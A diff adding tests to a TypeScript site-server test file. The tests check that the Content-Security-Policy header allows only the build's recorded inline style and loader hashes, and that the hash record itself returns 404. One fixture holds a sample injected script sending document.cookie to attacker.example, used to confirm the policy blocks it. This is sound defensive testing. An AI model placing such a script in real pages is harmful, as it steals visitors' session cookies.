@@ -13,6 +13,7 @@ import { listen } from '../../infra/local/listen';
 import { createRateLimiter } from '../../infra/local/rate-limit';
 import type { RunningServer } from '../../infra/local/ses-emulator';
 import { type ApiHandler, createSiteServer } from '../../infra/local/site-server';
+import { cspHash, INLINE_CODE_FILE, writeInlineCode } from '../../web/build/inline-code';
 import { BEACON_PATH } from '../../web/src/config/analytics';
 
 const LIMIT = 5;
@@ -57,6 +58,7 @@ function call(path: string, from = '127.0.0.1', method = 'POST'): Promise<Answer
 beforeAll(async () => {
   distDir = mkdtempSync(join(tmpdir(), 'site-'));
   writeFileSync(join(distDir, 'index.html'), '<h1>Landing</h1>');
+  writeInlineCode(distDir, NO_INLINE_CODE);
   vi.spyOn(console, 'warn').mockImplementation(() => {});
   site = await listen(
     createSiteServer({
@@ -155,6 +157,38 @@ describe('the navigation beacon, answered by the edge router as CloudFront answe
       page.headers.allow,
       page.body,
     ]);
+  });
+});
+
+describe("the policy's inline code, as the build recorded it", () => {
+  const STYLE = 'h1{color:navy}';
+  const LOADER = 'console.info("loader")';
+  const HOSTILE = 'fetch("https://attacker.example/?c="+document.cookie)';
+
+  it('allows the stylesheet and loader the build inlined, and not a script a page carries besides', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'site-'));
+    // A page as content could leave it: the build's code, and a script its body smuggled in.
+    const page = `<style>${STYLE}</style><h1>Article</h1><script>${HOSTILE}</script><script type="module">${LOADER}</script>`;
+    writeFileSync(join(dir, 'index.html'), page);
+    writeInlineCode(dir, { styles: [cspHash(STYLE)], scripts: [cspHash(LOADER)] });
+    const twin = await listen(createSiteServer({ distDir: dir, apiRoutes: {} }), 0, 'PORT');
+    try {
+      const csp = String((await fetch(twin.url)).headers.get('content-security-policy'));
+      expect(csp).toContain(`style-src 'self' ${cspHash(STYLE)};`);
+      expect(csp).toContain(`script-src 'self' ${cspHash(LOADER)};`);
+      expect(csp).not.toContain(cspHash(HOSTILE));
+    } finally {
+      twin.server.closeAllConnections();
+      await new Promise((resolve) => twin.server.close(resolve));
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('keeps the record out of the site: 404, as for a file S3 never received', async () => {
+    // beforeAll wrote it, as the build does.
+    const record = await call(`/${INLINE_CODE_FILE}`, '127.0.0.30', 'GET');
+    expect(record.status).toBe(404);
+    expect(record.body).toBe('Not Found');
   });
 });
 
